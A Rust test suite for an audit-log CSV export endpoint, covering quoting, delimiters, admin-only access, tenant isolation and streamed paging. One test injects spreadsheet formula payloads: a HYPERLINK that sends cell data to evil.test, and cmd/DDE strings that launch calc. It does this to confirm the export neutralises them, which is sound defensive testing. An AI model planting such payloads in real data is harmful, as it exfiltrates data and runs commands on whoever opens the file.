//! `GET /audit-logs.csv`: the audit trail as RFC 4180 CSV for ADMINs, with the filters of
//! `auditLogs` as query parameters and a choice of delimiter.

use reqwest::{Response, StatusCode};
use serde_json::{Value, json};

use super::{logs, one_of_each};
use crate::helpers::*;

const COLUMNS: [&str; 11] = [
    "created_at",
    "action",
    "object_type",
    "object_id",
    "actor_id",
    "actor_email",
    "api_key_id",
    "ip",
    "user_agent",
    "request_id",
    "metadata",
];

async fn export(app: &TestApp, authorization: Option<&str>, query: &str) -> Response {
    let mut req = app.client.get(app.url(&format!("/audit-logs.csv{query}")));
    if let Some(a) = authorization {
        req = req.header("authorization", a);
    }
    req.send().await.expect("request sent")
}

/// The export as `actor`, which must answer 200 `text/csv`; returns the raw text.
async fn csv_text(app: &TestApp, actor: &User, query: &str) -> String {
    let resp = export(app, Some(format!("Bearer {}", actor.token).as_str()), query).await;
    assert_eq!(resp.status(), StatusCode::OK);
    let ct = resp.headers().get("content-type").and_then(|v| v.to_str().ok()).unwrap_or_default().to_string();
    assert!(ct.starts_with("text/csv"), "content-type {ct:?}");
    resp.text().await.expect("a text body")
}

/// Parses RFC 4180 text: quoted fields may hold the delimiter, doubled quotes and line breaks.
fn parse_csv(text: &str, delimiter: char) -> Vec<Vec<String>> {
    let (mut records, mut record, mut field) = (Vec::new(), Vec::new(), String::new());
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            '"' if quoted => quoted = false,
            '"' if field.is_empty() => quoted = true,
            _ if quoted => field.push(c),
            '\r' if chars.peek() == Some(&'\n') => {}
            '\n' => {
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
            c if c == delimiter => record.push(std::mem::take(&mut field)),
            c => field.push(c),
        }
    }
    assert!(!quoted, "an unterminated quoted field");
    if !field.is_empty() || !record.is_empty() {
        record.push(field);
        records.push(record);
    }
    records
}

/// The records of a CSV export after its header, which must be the documented columns.
fn rows_of(text: &str, delimiter: char) -> Vec<Vec<String>> {
    let mut records = parse_csv(text, delimiter);
    assert!(!records.is_empty(), "no header line: {text:?}");
    let header = records.remove(0);
    assert_eq!(header, COLUMNS, "the header");
    for r in &records {
        assert_eq!(r.len(), COLUMNS.len(), "a record of {} fields: {r:?}", r.len());
    }
    records
}

fn column(name: &str) -> usize {
    COLUMNS.iter().position(|c| *c == name).expect("a known column")
}

#[tokio::test]
async fn the_export_has_a_header_and_one_line_per_row_matching_the_filter() {
    let app = spawn_app().await;
    let trail = one_of_each(&app, "acme").await;
    let tricky = trail.admin
        .ok(
            "mutation { createCompany(input: {name: \"Acme, \\\"Best\\\" Insurer\", code: \"BEST\"}) { id name } }",
            json!({}),
        )
        .await;
    assert_eq!(tricky["createCompany"]["name"], "Acme, \"Best\" Insurer");

    let text = csv_text(&app, &trail.admin, "").await;
    assert!(text.starts_with("created_at,action,"), "{text:?}");
    let all = rows_of(&text, ',');
    let total =
        trail.admin.ok("{ auditLogs { totalCount } }", json!({})).await["auditLogs"]["totalCount"].clone();
    assert_eq!(json!(all.len()), total, "one line per row");

    let text = csv_text(&app, &trail.admin, "?action=company.create").await;
    let rows = rows_of(&text, ',');
    let expected = logs(&trail.admin, json!({"action": "company.create"})).await;
    assert_eq!(rows.len(), 2, "{text}");
    assert_eq!(rows.len(), expected.len());
    for (row, node) in rows.iter().zip(&expected) {
        assert_eq!(row[column("action")], "company.create");
        assert_eq!(row[column("object_type")], "Company");
        assert_eq!(node["objectId"], row[column("object_id")].as_str(), "same rows, same order");
        assert_eq!(node["requestId"], row[column("request_id")].as_str());
        assert_eq!(row[column("actor_email")], "admin@acme.test");
        assert_eq!(row[column("actor_id")], trail.admin.id);
        assert_eq!(row[column("ip")], "127.0.0.1");
    }
    let step = trail.steps.iter().find(|s| s.action == "company.create").unwrap();
    let ours = rows.iter().find(|r| r[column("request_id")] == step.request_id).expect("the scenario's company.create");
    assert_eq!(ours[column("object_id")], step.object_id);
    assert_eq!(ours[column("user_agent")], super::USER_AGENT);

    // The name with a comma and quotes survives, quoted with doubled quotes.
    assert!(text.contains("\"\"Best"), "quotes are not doubled: {text}");
    let best = rows.iter().find(|r| r[column("metadata")].contains("BEST")).expect("the tricky company's row");
    let meta: Value = serde_json::from_str(&best[column("metadata")]).expect("metadata is JSON");
    assert_eq!(meta["name"], "Acme, \"Best\" Insurer");
    assert_eq!(best[column("object_id")], tricky["createCompany"]["id"].as_str().unwrap());
}

#[tokio::test]
async fn the_export_takes_a_semicolon_delimiter() {
    let app = spawn_app().await;
    let admin = app.register("Acme", "admin@acme.test").await;
    admin.ok("mutation { createCompany(input: {name: \"Semi; Colon\", code: \"SC\"}) { id } }", json!({})).await;
    let text = csv_text(&app, &admin, "?delimiter=%3B").await;
    assert!(text.starts_with("created_at;action;object_type;"), "{text:?}");
    let rows = rows_of(&text, ';');
    let company = rows.iter().find(|r| r[column("action")] == "company.create").expect("the company.create row");
    let meta: Value = serde_json::from_str(&company[column("metadata")]).expect("metadata is JSON");
    assert_eq!(meta["name"], "Semi; Colon");
    assert_eq!(rows_of(&csv_text(&app, &admin, "?delimiter=semicolon").await, ';').len(), rows.len());
}

#[tokio::test]
async fn the_export_is_for_admins_only() {
    let app = spawn_app().await;
    let org = app.org("acme").await;
    for actor in [&org.manager, &org.agent] {
        let resp = export(&app, Some(format!("Bearer {}", actor.token).as_str()), "").await;
        assert_eq!(resp.status(), StatusCode::FORBIDDEN, "{}", actor.email);
        let body: Value = resp.json().await.expect("a JSON error");
        assert_eq!(code(&body), "FORBIDDEN");
    }
    for auth in [None, Some("Bearer not-a-token"), Some("ApiKey ma_nothing_here")] {
        let resp = export(&app, auth, "").await;
        assert_eq!(resp.status(), StatusCode::UNAUTHORIZED, "{auth:?}");
        let body: Value = resp.json().await.expect("a JSON error");
        assert_eq!(code(&body), "UNAUTHENTICATED");
    }
}

#[tokio::test]
async fn another_organizations_admin_exports_only_their_own_rows() {
    let app = spawn_app().await;
    let trail = one_of_each(&app, "acme").await;
    let other = app.register("Other", "admin@other.test").await;
    app.create_company(&other, "OTH").await;

    let rows = rows_of(&csv_text(&app, &other, "").await, ',');
    let total = other.ok("{ auditLogs { totalCount } }", json!({})).await["auditLogs"]["totalCount"].clone();
    assert_eq!(json!(rows.len()), total);
    assert!(rows.iter().any(|r| r[column("action")] == "company.create"), "their own rows are there: {rows:?}");
    for r in &rows {
        assert!(!r[column("request_id")].starts_with("acme-"), "{r:?}");
        let email = &r[column("actor_email")];
        assert!(email.is_empty() || email.ends_with("@other.test"), "{r:?}");
        assert_ne!(r[column("actor_id")], trail.admin.id, "{r:?}");
    }
    let filtered = rows_of(&csv_text(&app, &other, &format!("?actorId={}", trail.admin.id)).await, ',');
    assert!(filtered.is_empty(), "{filtered:?}");
}

#[tokio::test]
async fn header_and_user_agent_values_that_look_like_formulas_are_exported_as_text() {
    let app = spawn_app().await;
    let admin = app.register("Acme", "admin@acme.test").await;
    let formulas = [
        ("=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"),
        ("-1+1 from a patched agent", "@evil"),
    ];
    for (user_agent, request_id) in formulas {
        let resp = app
            .client
            .post(app.url("/graphql"))
            .header("user-agent", user_agent)
            .header("x-request-id", request_id)
            .json(&json!({"query": "mutation($i: LoginInput!) { login(input: $i) { accessToken } }",
                "variables": {"i": {"email": "admin@acme.test", "password": "not the password 42"}}}))
            .send()
            .await
            .expect("request sent");
        assert_eq!(resp.status(), StatusCode::OK);
    }
    let rows = rows_of(&csv_text(&app, &admin, "?action=auth.login_failed").await, ',');
    assert_eq!(rows.len(), formulas.len(), "{rows:?}");
    for (user_agent, request_id) in formulas {
        let row = rows.iter().find(|r| r[column("user_agent")].ends_with(&user_agent)).unwrap_or_else(|| panic!("{user_agent}: {rows:?}"));
        assert_eq!(row[column("user_agent")], format!("'{user_agent}"), "the user agent cell");
        assert_eq!(row[column("request_id")], format!("'{request_id}"), "the request id cell");
    }
}

#[tokio::test]
async fn an_export_longer_than_a_page_has_every_row_once() {
    let app = spawn_app_with(&[("AUDIT_EXPORT_PAGE_ROWS", "2")]).await;
    let admin = app.register("Acme", "admin@acme.test").await;
    for i in 0..6 {
        app.create_company(&admin, &format!("C{i}")).await;
    }
    let rows = rows_of(&csv_text(&app, &admin, "").await, ',');
    let total = admin.ok("{ auditLogs { totalCount } }", json!({})).await["auditLogs"]["totalCount"].clone();
    assert_eq!(json!(rows.len()), total, "one line per row: {rows:?}");
    let mut codes: Vec<&str> = rows.iter().filter(|r| r[column("action")] == "company.create").map(|r| r[column("metadata")].as_str()).collect();
    codes.dedup();
    assert_eq!(codes.len(), 6, "{rows:?}");
}

#[tokio::test]
async fn rows_written_while_an_export_streams_neither_repeat_nor_push_out_the_rows_it_started_with() {
    use futures_util::StreamExt;
    let app = spawn_app().await;
    let admin = app.register("Acme", "admin@acme.test").await;
    for i in 0..5 {
        app.create_company(&admin, &format!("C{i}")).await;
    }
    let before = rows_of(&csv_text(&app, &admin, "").await, ',');

    // The export's own page stream, two rows a page; rows are written between its pages.
    let everyone = monassurance::principal::Principal {
        user_id: uuid::Uuid::nil(),
        org_id: uuid::Uuid::nil(),
        role: monassurance::principal::Role::Superadmin,
        session_id: None,
        api_key: None,
    };
    let query = monassurance::audit::service::list(&everyone, None).expect("the audit query");
    let mut pages = std::pin::pin!(monassurance::http::audit_csv::pages(app.state.db.clone(), query, 2, b','));
    let mut text = String::from_utf8(pages.next().await.expect("a first page").expect("no error")).unwrap();
    for i in 0..3 {
        app.create_company(&admin, &format!("NEW{i}")).await;
        let page = pages.next().await.expect("another page").expect("no error");
        text.push_str(std::str::from_utf8(&page).unwrap());
    }
    while let Some(page) = pages.next().await {
        text.push_str(std::str::from_utf8(&page.expect("no error")).unwrap());
    }
    let streamed = parse_csv(&text, ',');
    let mut seen = std::collections::HashSet::new();
    for row in &streamed {
        assert!(seen.insert(row.clone()), "a row exported twice: {row:?}");
    }
    assert_eq!(streamed, before, "the rows the export started with, each once, in order");
}
